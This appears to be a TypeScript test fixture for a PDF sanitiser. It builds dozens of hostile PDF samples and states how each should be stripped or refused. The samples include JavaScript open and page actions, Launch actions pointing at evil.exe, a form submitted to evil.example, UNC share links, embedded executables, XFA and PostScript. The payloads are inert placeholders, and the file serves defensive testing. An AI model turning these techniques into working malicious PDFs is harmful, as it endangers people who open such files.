import { makeOnePage } from '../odd-pdfs.ts'
import { writeRawPdf } from '../raw-pdf.ts'
import { type HostileFile, streamOf } from './hostile-file.ts'

/** PDFs that run something, send something, or bring something along. */

const link = (action: string, entries = ''): Buffer =>
  makeOnePage({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] ${entries} /A << ${action} >> >>]` })

const annotation = (entries: string, more: string[] = []): Buffer =>
  makeOnePage({ page: '/Annots [6 0 R]', more: [`<< /Type /Annot /Rect [9 9 99 99] ${entries} >>`, ...more] })

const SCRIPT = '<< /S /JavaScript /JS (app.evil\\(\\)) >>'
const FILE = streamOf('MZ evil program', '/Type /EmbeddedFile')
const FILE_UNNAMED = streamOf('MZ evil program')
const image = (entries: string): string =>
  streamOf(
    '\0',
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ${entries}`,
  )

const withXObject = (...objects: string[]): Buffer =>
  makeOnePage({ content: '/X Do', page: '/Resources << /XObject << /X 6 0 R >> >>', more: objects })

const takenWithout = (removed: string | string[], ...gone: string[]) => ({
  taken: 1,
  removed: [removed].flat(),
  gone,
})

export const ACTIVE: readonly HostileFile[] = [
  {
    name: 'script among the names',
    make: () => makeOnePage({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'script on opening',
    make: () => makeOnePage({ catalog: `/OpenAction ${SCRIPT}` }),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'script of the document',
    make: () => makeOnePage({ catalog: `/AA << /WC ${SCRIPT} >>` }),
    fate: takenWithout('AA', 'evil'),
  },
  {
    name: 'script of a page',
    make: () => makeOnePage({ page: `/AA << /O ${SCRIPT} >>` }),
    fate: takenWithout('AA', 'evil'),
  },
  {
    name: 'script of an annotation',
    make: () => annotation(`/Subtype /Link /AA << /E ${SCRIPT} >>`),
    fate: takenWithout('AA', 'evil'),
  },
  {
    name: 'script of a form field',
    make: () => annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${SCRIPT} >> /MK << >>`),
    fate: takenWithout('AA', 'evil'),
  },
  {
    name: 'script behind a link',
    make: () => link('/S /JavaScript /JS (app.evil\\(\\))'),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'script behind a link that is followed first',
    make: () =>
      link('/S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage /Next << /S /JavaScript /JS (evil) >> >>'),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'script in a stream, under an escaped name',
    make: () =>
      makeOnePage({
        page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] /A 6 0 R >>]',
        more: ['<< /S 7 0 R /#4a#53 8 0 R >>', '/J#61vaScript', streamOf('app.evil()')],
      }),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'script as an address',
    make: () => link('/S /URI /URI (JavaScript:evil)'),
    fate: takenWithout('JavaScript', 'evil'),
  },
  {
    name: 'program to start',
    make: () => link('/S /Launch /F (evil.exe) /Win << /F (evil.exe) >>'),
    fate: takenWithout('Launch', 'evil'),
  },
  {
    name: 'program to start, under a false type',
    make: () => link('/Type /Harmless /S /Launch /F (evil.exe)'),
    fate: takenWithout('Launch', 'evil'),
  },
  {
    name: 'action nobody knows',
    make: () => link('/S /Detonate /F (evil.exe)'),
    fate: takenWithout('Detonate', 'evil'),
  },
  {
    name: 'other file',
    make: () => link('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]'),
    fate: takenWithout('GoToR', 'evil'),
  },
  {
    name: 'file inside a file',
    make: () => link('/S /GoToE /F (evil.pdf) /T << /R /C >>'),
    fate: takenWithout('GoToE', 'evil'),
  },
  {
    name: 'thread in another file',
    make: () => link('/S /Thread /F (evil.pdf) /D 0'),
    fate: takenWithout('Thread', 'evil'),
  },
  {
    name: 'form that is sent',
    make: () => link('/S /SubmitForm /F (https://evil.example/)'),
    fate: takenWithout('SubmitForm', 'evil'),
  },
  {
    name: 'data that is fetched',
    make: () => link('/S /ImportData /F (evil.fdf)'),
    fate: takenWithout('ImportData', 'evil'),
  },
  {
    name: 'address of a share',
    make: () => link('/S /URI /URI (file://evil/share)'),
    fate: takenWithout('URI', 'evil'),
  },
  {
    name: 'address without a scheme that names a server',
    make: () => link('/S /URI /URI (\\\\\\\\evil\\\\share)'),
    fate: takenWithout('URI', 'evil'),
  },
  {
    name: 'address that carries its page',
    make: () => link('/S /URI /URI (data:text/html,evil)'),
    fate: takenWithout('URI', 'evil'),
  },
  {
    name: 'plain address',
    make: () => link('/S /URI /URI (https://example.org/page)'),
    fate: { taken: 1, removed: [] },
  },
  {
    name: 'rendition',
    make: () => annotation('/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (evil) >> >> >>'),
    fate: takenWithout('Screen', 'evil'),
  },
  {
    name: 'rich media',
    make: () =>
      annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(evil.swf) << /F (evil) >>] >> >>'),
    fate: takenWithout('RichMedia', 'evil'),
  },
  {
    name: '3D',
    make: () =>
      annotation('/Subtype /3D /3DD 7 0 R', [
        streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R'),
        streamOf('evil()'),
      ]),
    fate: takenWithout('3D', 'evil'),
  },
  {
    name: 'movie',
    make: () => annotation('/Subtype /Movie /Movie << /F (evil.avi) >> /A true'),
    fate: takenWithout('Movie', 'evil'),
  },
  {
    name: 'sound',
    make: () => annotation('/Subtype /Sound /Sound 7 0 R', [streamOf('evil', '/Type /Sound /R 8000')]),
    fate: takenWithout('Sound', 'evil'),
  },
  {
    name: 'embedded file',
    make: () =>
      makeOnePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) << /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
        more: [FILE],
      }),
    fate: takenWithout('EmbeddedFiles', 'evil'),
  },
  {
    name: 'embedded file as an annotation',
    make: () => annotation('/Subtype /FileAttachment /FS << /F (evil.exe) /EF << /F 7 0 R >> >>', [FILE]),
    fate: takenWithout('FileAttachment', 'evil'),
  },
  {
    name: 'embedded file that belongs to a link and does not say what it is',
    make: () => annotation('/Subtype /Link /AF [<< /F (a.exe) /EF << /F 7 0 R >> >>]', [FILE_UNNAMED]),
    fate: takenWithout('EmbeddedFiles', 'evil'),
  },
  {
    name: 'embedded file that belongs to an image',
    make: () => withXObject(image('/AF [7 0 R]'), '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>', FILE_UNNAMED),
    fate: takenWithout('EmbeddedFiles', 'evil'),
  },
  {
    name: 'portfolio',
    make: () =>
      makeOnePage({
        catalog:
          '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) << /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
        more: [FILE],
      }),
    fate: takenWithout(['Collection', 'EmbeddedFiles'], 'evil', '/Collection'),
  },
  {
    name: 'XFA form',
    make: () => makeOnePage({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [streamOf('<xdp>evil</xdp>')] }),
    fate: takenWithout('XFA', 'evil'),
  },
  {
    name: 'image whose data lie in another file',
    make: () => withXObject(image('/F << /FS /URL /F (https://evil.example/a.jpg) >> /FFilter /DCTDecode')),
    fate: takenWithout('ExternalStream', 'evil'),
  },
  {
    name: 'page content that lies in another file',
    make: () =>
      writeRawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
        streamOf('', '/F (\\\\\\\\evil\\\\share)'),
      ]),
    fate: takenWithout('ExternalStream', 'evil'),
  },
  {
    name: 'form that shows a page of another file',
    make: () =>
      withXObject(streamOf('', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.pdf) /Page 0 >>')),
    fate: takenWithout('Ref', 'evil'),
  },
  {
    name: 'image that a printer fetches elsewhere',
    make: () => withXObject(image('/OPI << /2.0 << /Type /OPI /Version 2.0 /F (evil.tif) >> >>')),
    fate: takenWithout('OPI', 'evil'),
  },
  {
    name: 'image that prints as another',
    make: () => withXObject(image('/Alternates [<< /Image 7 0 R /DefaultForPrinting true >>]'), image('/Note (evil)')),
    fate: takenWithout('Alternates', 'evil'),
  },
  {
    name: 'program for printers',
    make: () => withXObject(streamOf('(evil) run', '/Type /XObject /Subtype /PS')),
    fate: takenWithout('PS', 'evil'),
  },
  {
    name: 'program for printers inside a form',
    make: () =>
      withXObject(
        streamOf('', '/Type /XObject /Subtype /Form /Subtype2 /PS /BBox [0 0 9 9] /PS 7 0 R'),
        streamOf('(evil) run'),
      ),
    fate: takenWithout('PS', 'evil'),
  },
  {
    name: 'pages captured from the web',
    make: () =>
      makeOnePage({
        catalog:
          '/SpiderInfo << /V 1 /C [6 0 R] >> /Names << /URLS << /Names [(http://evil/) 7 0 R] >> >> /URI << /Base (http://evil/) >>',
        more: ['<< /URL (http://evil/) >>', '<< /S /SPS /O [3 0 R] >>'],
      }),
    fate: { taken: 1, gone: ['evil'] },
  },
  {
    name: 'encryption nobody knows',
    make: () => makeOnePage({ trailer: '/Encrypt << /Filter /Evil /V 9 /R 9 >> /ID [<00> <00>]' }),
    fate: { refused: ['password_protected', 'unreadable'] },
  },
]
